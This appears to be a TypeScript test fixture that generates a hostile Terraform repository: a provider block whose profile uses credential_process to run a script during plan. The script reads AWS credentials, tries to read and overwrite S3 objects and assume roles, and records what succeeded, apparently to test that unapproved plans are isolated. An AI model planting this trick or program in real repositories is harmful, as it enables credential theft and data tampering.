/** A repository whose plan runs a program of its own before anybody has approved: what it tries, it writes down. */
import { join, resolve } from 'node:path';

const ROOT = resolve(import.meta.dirname, '../..');
const sdk = (name: string): string =>
  JSON.stringify(join(ROOT, 'node_modules', '@aws-sdk', name, 'dist-cjs', 'index.js'));

export interface Attempt {
  readonly what: string;
  readonly outcome: string;
}

export interface Prey {
  /** Where the program writes what came of it. */
  readonly report: string;
  readonly objects: Readonly<Record<string, { readonly Bucket: string; readonly Key: string }>>;
  readonly roles: Readonly<Record<string, { readonly RoleArn: string; readonly ExternalId: string }>>;
}

const program = ({ report, objects, roles }: Prey): string => `
const { GetObjectCommand, PutObjectCommand, S3Client } = require(${sdk('client-s3')});
const { AssumeRoleCommand, STSClient } = require(${sdk('client-sts')});
const { readFileSync, writeFileSync } = require('node:fs');

const config = readFileSync(process.env.AWS_CONFIG_FILE, 'utf8');
const key = (name) => new RegExp(name + ' = (.*)').exec(config)[1].trim();
const credentials = {
  accessKeyId: key('aws_access_key_id'),
  secretAccessKey: key('aws_secret_access_key'),
  sessionToken: key('aws_session_token'),
};
const options = { endpoint: process.env.AWS_ENDPOINT_URL, region: 'us-east-1', credentials };
const s3 = new S3Client({ ...options, forcePathStyle: true });
const sts = new STSClient(options);
const attempts = [];
const attempt = async (what, work) => {
  try {
    await work();
    attempts.push({ what, outcome: 'done' });
  } catch (error) {
    attempts.push({ what, outcome: error.name });
  }
};
(async () => {
  for (const [name, at] of Object.entries(${JSON.stringify(objects)})) {
    await attempt('read ' + name, () => s3.send(new GetObjectCommand(at)));
    await attempt('write ' + name, () => s3.send(new PutObjectCommand({ ...at, Body: 'evil' })));
  }
  for (const [name, role] of Object.entries(${JSON.stringify(roles)}))
    await attempt('become ' + name, () => sts.send(new AssumeRoleCommand({ ...role, RoleSessionName: 'evil' })));
  writeFileSync(${JSON.stringify(report)}, JSON.stringify(attempts));
})();
`;

export const hostileFiles = (prey: Prey): Readonly<Record<string, string>> => ({
  'evil.js': program(prey),
  'evil.config': '[profile evil]\ncredential_process = node evil.js\n',
  'provider.tf': 'provider "aws" {\n  profile             = "evil"\n  shared_config_files = ["evil.config"]\n}\n',
});
